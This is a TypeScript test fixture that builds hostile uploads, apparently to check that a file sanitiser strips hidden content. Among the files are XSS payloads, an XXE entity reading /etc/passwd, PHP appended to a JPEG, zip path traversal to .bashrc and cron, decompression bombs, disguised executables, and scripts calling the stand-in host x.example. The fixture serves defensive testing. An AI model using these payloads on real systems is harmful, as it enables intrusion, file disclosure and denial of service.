import { crc32, deflateSync, gzipSync } from "node:zlib";
import sharp from "sharp";
import { writeWebm } from "../webm.ts";

/** Stands wherever something is hidden: it must not come out again. */
export const canary = "CANARIO-19.4326-99.1332";

export interface HostileFile {
  what: string;
  content: Buffer;
  name?: string;
  type?: string;
}

const bytes = (...parts: (string | number[] | Buffer)[]) =>
  Buffer.concat(
    parts.map((part) =>
      typeof part === "string" ? Buffer.from(part, "latin1") : Buffer.from(part),
    ),
  );
const be32 = (value: number) => {
  const written = Buffer.alloc(4);
  written.writeUInt32BE(value >>> 0);
  return written;
};
const le = (value: number, length: 2 | 4) => {
  const written = Buffer.alloc(length);
  written.writeUIntLE(value, 0, length);
  return written;
};

const script = `<script>alert("${canary}")</script>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
const html = `<!doctype html><html><body>${script}</body></html>`;

/** A JPEG with one more segment after its first mark. */
const withSegment = (jpeg: Buffer, marker: number, content: Buffer) => {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(content.length + 2);
  return bytes(jpeg.subarray(0, 2), [0xff, marker], length, content, jpeg.subarray(2));
};

const chunk = (type: string, content: Buffer) =>
  bytes(be32(content.length), type, content, be32(crc32(bytes(type, content))));

/** A PNG with one more chunk behind its head. */
const withChunk = (png: Buffer, type: string, content: Buffer) =>
  bytes(png.subarray(0, 33), chunk(type, content), png.subarray(33));

function png(width: number, height: number, data: Buffer): Buffer {
  const head = bytes(be32(width), be32(height), [1, 0, 0, 0, 0]);
  const signature = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
  return bytes(signature, chunk("IHDR", head), chunk("IDAT", data), chunk("IEND", Buffer.alloc(0)));
}

/** A TIFF as it stands in EXIF, with one tag: 0x927c is what makers of cameras note. */
function exifWith(tag: number, text: string): Buffer {
  const value = bytes(text, [0]);
  return bytes(
    "Exif\0\0II",
    [0x2a, 0, 8, 0, 0, 0, 1, 0],
    ...[le(0x8769, 2), le(4, 2), le(1, 4), le(26, 4), le(0, 4)],
    [1, 0],
    ...[le(tag, 2), le(7, 2), le(value.length, 4), le(44, 4), le(0, 4)],
    value,
  );
}

const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF>${canary}</rdf:RDF></x:xmpmeta>`;

interface Packed {
  name: string;
  content?: string;
  /** What the list says it unpacks to. */
  unpacked?: number;
}

export function zip(entries: Packed[]): Buffer {
  const files: Buffer[] = [];
  const list: Buffer[] = [];
  let at = 0;
  for (const { name, content = "x", unpacked = content.length } of entries) {
    const crc = crc32(content);
    const sizes = bytes(
      le(crc, 4),
      le(content.length, 4),
      le(unpacked, 4),
      le(name.length, 2),
      [0, 0],
    );
    const file = bytes("PK\x03\x04", [20, 0, 0, 0, 0, 0, 0, 0, 0, 0], sizes, name, content);
    list.push(
      bytes(
        "PK\x01\x02",
        [20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0],
        sizes,
        Buffer.alloc(10),
        le(at, 4),
        name,
      ),
    );
    files.push(file);
    at += file.length;
  }
  const listed = Buffer.concat(list);
  const counts = bytes([0, 0, 0, 0], le(entries.length, 2), le(entries.length, 2));
  return bytes(...files, listed, "PK\x05\x06", counts, le(listed.length, 4), le(at, 4), [0, 0]);
}

export const docx = (more: Packed[] = []) =>
  zip([
    { name: "[Content_Types].xml", content: docxTypes },
    { name: "word/document.xml", content: "<w:document/>" },
    ...more,
  ]);
const docxTypes =
  '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
export const odt = () =>
  zip([
    { name: "mimetype", content: "application/vnd.oasis.opendocument.text" },
    { name: "content.xml", content: "<office/>" },
  ]);
export const pdf = (body = "") => bytes(`%PDF-1.7\n${body}\n%%EOF\n`);

/** Twenty thousandths of a second each. */
export const packets = (seconds: number, length = 40) =>
  Array.from({ length: seconds * 50 }, (_, at) => Buffer.alloc(length, at % 251).fill(0x48, 0, 1));
export const webm = (seconds: number, length?: number) =>
  writeWebm({ channels: 1, preSkip: 312, packets: packets(seconds, length) });

const element = (id: number[], content: Buffer) =>
  bytes(id, be32(0x10000000 + content.length), content);

export function ogg(seconds: number, tags = canary): Buffer {
  const page = (content: Buffer) => {
    const full = Array.from({ length: Math.floor(content.length / 255) }, () => 255);
    const segments = [...full, content.length % 255];
    return bytes(
      "OggS",
      [0, 0],
      Buffer.alloc(8),
      le(7, 4),
      Buffer.alloc(8),
      [segments.length],
      segments,
      content,
    );
  };
  const head = bytes("OpusHead", [1, 1, 0x38, 1], le(48_000, 4), [0, 0, 0]);
  const notes = bytes("OpusTags", le(5, 4), "telar", le(1, 4), le(tags.length, 4), tags);
  return bytes(page(head), page(notes), ...packets(seconds).map(page));
}

const picture = (format: "jpeg" | "png" | "webp" | "gif") =>
  sharp({
    create: { width: 60, height: 40, channels: 3, background: { r: 90, g: 120, b: 60 } },
  }).toFormat(format);

export async function hostileFiles(): Promise<HostileFile[]> {
  return [
    ...(await jpegs()),
    ...(await pngs()),
    ...(await otherPictures()),
    ...markup(),
    ...(await bombs()),
    ...packed(),
    ...programs(),
    ...documents(),
    ...voices(),
  ];
}

async function jpegs(): Promise<HostileFile[]> {
  const plain = await picture("jpeg").toBuffer();
  const located = await picture("jpeg")
    .withExif({
      IFD0: { Make: canary, Model: canary, Orientation: "6" },
      IFD3: { GPSLatitudeRef: "N", GPSLatitude: "19/1 25/1 57/1", GPSLongitude: "99/1 7/1 59/1" },
    })
    .toBuffer();
  const iptc = bytes(
    "Photoshop 3.0\x008BIM\x04\x04\0\0",
    be32(canary.length + 5),
    [0x1c, 2, 120, 0, canary.length],
    canary,
  );
  const icc = await picture("jpeg").withIccProfile("p3").toBuffer();
  return [
    { what: "JPEG with a place in EXIF", content: located },
    {
      what: "JPEG with a maker's note",
      content: withSegment(plain, 0xe1, exifWith(0x927c, canary)),
    },
    {
      what: "JPEG with an owner's name",
      content: withSegment(plain, 0xe1, exifWith(0xa430, canary)),
    },
    {
      what: "JPEG with XMP",
      content: withSegment(plain, 0xe1, bytes("http://ns.adobe.com/xap/1.0/\0", xmp)),
    },
    {
      what: "JPEG with extended XMP",
      content: withSegment(plain, 0xe1, bytes("http://ns.adobe.com/xmp/extension/\0", xmp)),
    },
    { what: "JPEG with IPTC", content: withSegment(plain, 0xed, iptc) },
    { what: "JPEG with a comment", content: withSegment(plain, 0xfe, bytes(canary)) },
    {
      what: "JPEG with a script in its comment",
      content: withSegment(plain, 0xfe, bytes(`*/=1;${script}/*`)),
    },
    { what: "JPEG with a colour profile", content: icc },
    {
      what: "JPEG with a broken colour profile",
      content: withSegment(plain, 0xe2, bytes("ICC_PROFILE\0\x01\x01", canary)),
    },
    {
      what: "JPEG with a thumbnail",
      content: withSegment(plain, 0xe1, bytes(exifWith(0x9286, canary), plain, canary)),
    },
    {
      what: "JPEG with a second picture",
      content: bytes(withSegment(plain, 0xe2, bytes("MPF\0", canary)), plain, canary),
    },
    {
      what: "JPEG with a zip behind it",
      content: bytes(plain, zip([{ name: canary, content: canary }])),
      name: "foto.zip",
    },
    {
      what: "JPEG with a page behind it",
      content: bytes(plain, html),
      name: "foto.html",
      type: "text/html",
    },
    {
      what: "JPEG with PHP behind it",
      content: bytes(plain, `<?php system("${canary}"); ?>`),
      name: "foto.php.jpg",
    },
    { what: "JPEG with a maker's own segment", content: withSegment(plain, 0xeb, bytes(canary)) },
    { what: "JPEG that breaks off", content: plain.subarray(0, plain.length - 60) },
    { what: "JPEG that ends after its head", content: plain.subarray(0, 30) },
  ];
}

async function pngs(): Promise<HostileFile[]> {
  const plain = await picture("png").toBuffer();
  const word = bytes("Comment\0", canary);
  const frames = bytes(be32(2), be32(0));
  return [
    { what: "PNG with text", content: withChunk(plain, "tEXt", word) },
    {
      what: "PNG with packed text",
      content: withChunk(plain, "zTXt", bytes("Comment\0\0", deflateSync(canary))),
    },
    {
      what: "PNG with XMP",
      content: withChunk(plain, "iTXt", bytes("XML:com.adobe.xmp\0\0\0\0\0", xmp)),
    },
    {
      what: "PNG with EXIF",
      content: withChunk(plain, "eXIf", exifWith(0x927c, canary).subarray(6)),
    },
    {
      what: "PNG with a time",
      content: withChunk(plain, "tIME", bytes([7, 234, 11, 21, 16, 0, 0])),
    },
    {
      what: "PNG with a broken profile",
      content: withChunk(plain, "iCCP", bytes("p\0\0", deflateSync(canary))),
    },
    { what: "PNG with a chunk of its own", content: withChunk(plain, "caNa", bytes(canary)) },
    { what: "PNG that moves", content: withChunk(plain, "acTL", frames) },
    { what: "PNG with a zip behind it", content: bytes(plain, zip([{ name: canary }])) },
    { what: "PNG that breaks off", content: plain.subarray(0, plain.length - 40) },
    {
      what: "PNG with text that unpacks to 100 MB",
      content: withChunk(plain, "zTXt", bytes("a\0\0", deflateSync(Buffer.alloc(1e8)))),
    },
  ];
}

async function otherPictures(): Promise<HostileFile[]> {
  const webp = picture("webp");
  const frames = await sharp({
    create: { width: 20, height: 60, channels: 3, background: "#456", pageHeight: 20 },
  })
    .gif({ loop: 0, delay: [100, 100, 100] })
    .toBuffer();
  const still = await picture("gif").toBuffer();
  const comment = bytes([0x21, 0xfe, canary.length], canary, [0]);
  const webpExif = await webp
    .clone()
    .withExif({ IFD0: { Copyright: canary } })
    .toBuffer();
  return [
    { what: "WebP with EXIF", content: webpExif },
    { what: "WebP with XMP", content: await webp.clone().withXmp(xmp).toBuffer() },
    { what: "WebP with something behind it", content: bytes(await webp.toBuffer(), canary) },
    { what: "WebP that breaks off", content: (await webp.toBuffer()).subarray(0, 60) },
    { what: "GIF that moves", content: frames },
    { what: "WebP that moves", content: await sharp(frames, { animated: true }).webp().toBuffer() },
    { what: "GIF with a comment", content: bytes(still.subarray(0, -1), comment, [0x3b]) },
    { what: "GIF with a page behind it", content: bytes(still, html) },
    { what: "GIF that is a script too", content: bytes(`GIF89a=1;alert("${canary}")//`) },
    {
      what: "TIFF",
      content: await sharp({ create: { width: 9, height: 9, channels: 3, background: "#123" } })
        .tiff()
        .toBuffer(),
    },
    {
      what: "AVIF",
      content: bytes([0, 0, 0, 0x1c], "ftypavif", [0, 0, 0, 0], "avifmif1miaf", canary),
    },
    { what: "HEIC", content: bytes([0, 0, 0, 0x18], "ftypheic", [0, 0, 0, 0], "mif1heic", canary) },
    { what: "BMP", content: bytes("BM", Buffer.alloc(60), canary) },
    { what: "PSD", content: bytes("8BPS\0\x01", Buffer.alloc(30), canary) },
  ];
}

const markup = (): HostileFile[] => [
  { what: "SVG with a script", content: bytes(svg), name: "dibujo.svg", type: "image/svg+xml" },
  { what: "SVG called a PNG", content: bytes(svg), name: "dibujo.png", type: "image/png" },
  { what: "SVG with a prolog", content: bytes(`<?xml version="1.0"?>${svg}`) },
  { what: "SVG behind a mark and blanks", content: Buffer.from(`\ufeff \n\t${svg}`) },
  { what: "SVG that is packed", content: gzipSync(svg), name: "dibujo.svgz" },
  {
    what: "SVG that reads files",
    content: bytes(`<!DOCTYPE s [<!ENTITY f SYSTEM "file:///etc/passwd">]>${svg}`),
  },
  { what: "page called a JPEG", content: bytes(html), name: "foto.jpg", type: "image/jpeg" },
  {
    what: "page behind words",
    content: bytes(`Hola${" ".repeat(50)}${html}`),
    name: "hola.txt",
    type: "text/plain",
  },
  { what: "page in UTF-16", content: Buffer.from(`\ufeff${html}`, "utf16le") },
  {
    what: "page in UTF-7",
    content: bytes("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    type: "text/html",
  },
  {
    what: "style sheet",
    content: bytes(`@import "//x.example"; body { background: url(javascript:1) }`),
    type: "text/css",
  },
  {
    what: "script",
    content: bytes(`fetch("//x.example?${canary}")`),
    name: "a.js",
    type: "text/javascript",
  },
  {
    what: "manifest of a worker",
    content: bytes(`{"start_url":"/","${canary}":1}`),
    type: "application/manifest+json",
  },
];

async function bombs(): Promise<HostileFile[]> {
  const jpeg = await picture("jpeg").toBuffer();
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  const wide = Buffer.from(jpeg);
  wide.writeUInt16BE(65_500, frame + 5);
  wide.writeUInt16BE(65_500, frame + 7);
  return [
    {
      what: "PNG of 900 million points",
      content: png(30_000, 30_000, deflateSync(Buffer.alloc(30_000 * 3751))),
    },
    {
      what: "PNG that says it has no end",
      content: png(0x7fffffff, 0x7fffffff, deflateSync(Buffer.alloc(10))),
    },
    { what: "PNG of no width", content: png(0, 10, deflateSync(Buffer.alloc(10))) },
    {
      what: "PNG of 49 million points",
      content: png(7000, 7000, deflateSync(Buffer.alloc(7000 * 876))),
    },
    {
      what: "PNG of 13 million points, each of 64 bits, in seven passes",
      content: await sharp({
        create: { width: 3600, height: 3600, channels: 4, background: "red" },
      })
        .toColourspace("rgb16")
        .png({ progressive: true, compressionLevel: 9 })
        .toBuffer(),
    },
    { what: "JPEG of four thousand million points", content: wide },
    {
      what: "GIF of four thousand million points",
      content: bytes("GIF89a", [0xff, 0xff, 0xff, 0xff, 0, 0, 0], canary),
    },
    {
      what: "WebP of 268 million points",
      content: bytes(
        "RIFF",
        le(30, 4),
        "WEBPVP8X",
        le(10, 4),
        [0, 0, 0, 0, 0xff, 0x3f, 0, 0xff, 0x3f, 0],
      ),
    },
  ];
}

const packed = (): HostileFile[] => [
  { what: "zip", content: zip([{ name: canary }]), name: "acta.docx" },
  {
    what: "DOCX that unpacks to 4 GB",
    content: docx([{ name: "word/media/a.xml", unpacked: 0xfffffffe }]),
  },
  {
    what: "DOCX that unpacks to 100 MB",
    content: docx([{ name: "word/media/a.xml", unpacked: 1e8 }]),
  },
  {
    what: "DOCX with a program",
    content: docx([{ name: "word/vbaProject.bin", content: canary }]),
  },
  { what: "DOCX with a way out", content: docx([{ name: "../../.bashrc", content: canary }]) },
  {
    what: "DOCX with an absolute way",
    content: docx([{ name: "/etc/cron.d/x", content: canary }]),
  },
  { what: "DOCX behind a page", content: bytes(html, docx()) },
  { what: "DOCX before a page", content: bytes(docx(), html) },
  { what: "DOCX that breaks off", content: docx().subarray(0, -30) },
  {
    what: "ODT that is another thing",
    content: zip([
      { name: "mimetype", content: "application/vnd.oasis.opendocument.text-master" },
      { name: "content.xml" },
    ]),
  },
  {
    what: "program for phones",
    content: zip([{ name: "AndroidManifest.xml" }, { name: "classes.dex" }]),
    name: "telar.apk",
  },
  { what: "program for Java", content: zip([{ name: "META-INF/MANIFEST.MF" }]), name: "foto.jpg" },
  { what: "gzip", content: gzipSync(Buffer.alloc(1e6)) },
];

const programs = (): HostileFile[] => [
  {
    what: "program for Linux",
    content: bytes("\x7fELF\x02\x01\x01", Buffer.alloc(80), canary),
    name: "foto.jpg",
    type: "image/jpeg",
  },
  {
    what: "program for Windows",
    content: bytes("MZ\x90\0", Buffer.alloc(80), "This program cannot be run", canary),
    name: "acta.pdf",
  },
  {
    what: "shortcut",
    content: bytes("L\0\0\0\x01\x14\x02\0", Buffer.alloc(40), canary),
    name: "acta.pdf.lnk",
  },
  { what: "web assembly", content: bytes("\0asm\x01\0\0\0", canary) },
  {
    what: "script of a shell",
    content: bytes(`#!/bin/sh\ncurl x.example/${canary}\n`),
    name: "acta.pdf",
  },
  { what: "RTF", content: bytes(`{\\rtf1{\\object ${canary}}}`), name: "acta.txt" },
  { what: "text with a zero", content: bytes(`Hola\0${canary}`), name: "hola.txt" },
  {
    what: "text that is no UTF-8",
    content: bytes("Hola se\xf1ora ", [0xff, 0xfe], canary),
    name: "hola.txt",
  },
  { what: "nothing", content: Buffer.alloc(0), name: "foto.jpg" },
];

const documents = (): HostileFile[] => [
  {
    what: "PDF with a script",
    content: pdf(`<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>`),
    name: "acta.pdf",
  },
  { what: "PDF that is a page too", content: pdf(html), name: "acta.html", type: "text/html" },
  { what: "PDF with a zip behind it", content: bytes(pdf(), zip([{ name: "a" }])) },
  { what: "page before a PDF", content: bytes(html, pdf()) },
  { what: "PDF called a picture", content: pdf(), name: "foto.png", type: "image/png" },
  { what: "DOCX called a page", content: docx(), name: "acta.html", type: "text/html" },
  { what: "ODT called a script", content: odt(), name: "a.js", type: "text/javascript" },
];

function voices(): HostileFile[] {
  const plain = webm(1);
  const tags = element([0x12, 0x54, 0xc3, 0x67], bytes(canary));
  const video = Buffer.from(plain.toString("latin1").replace("A_OPUS", "V_VP80"), "latin1");
  const lying = Buffer.from(plain);
  lying.writeUInt32BE(0x1fffffff, plain.indexOf(Buffer.from([0x1f, 0x43, 0xb6, 0x75])) + 14);
  return [
    { what: "voice with tags", content: bytes(plain, tags), type: "audio/webm" },
    {
      what: "voice with an attached file",
      content: bytes(plain, element([0x19, 0x41, 0xa4, 0x69], bytes(canary, html))),
    },
    { what: "voice in Ogg with words about the device", content: ogg(1) },
    { what: "voice in Ogg with a page behind it", content: bytes(ogg(1), html) },
    { what: "voice with a page behind it", content: bytes(plain, html) },
    { what: "film", content: video, type: "video/webm" },
    { what: "voice that lies about its lengths", content: lying },
    { what: "voice that breaks off", content: plain.subarray(0, 200) },
    { what: "voice of 62 seconds", content: webm(62) },
    { what: "voice of 200 KB", content: webm(50, 80) },
    {
      what: "Ogg that is no Opus",
      content: bytes(
        "OggS",
        [0, 2],
        Buffer.alloc(8),
        le(7, 4),
        Buffer.alloc(8),
        [1, 30],
        "\x01vorbis",
        Buffer.alloc(23),
      ),
    },
    { what: "MP3", content: bytes("ID3\x03\0\0\0\0\0\x0aTIT2", canary, Buffer.alloc(50)) },
    { what: "WAV", content: bytes("RIFF", le(60, 4), "WAVEfmt ", Buffer.alloc(40), canary) },
    { what: "MP4", content: bytes([0, 0, 0, 0x18], "ftypmp42", [0, 0, 0, 0], "mp42isom", canary) },
  ];
}
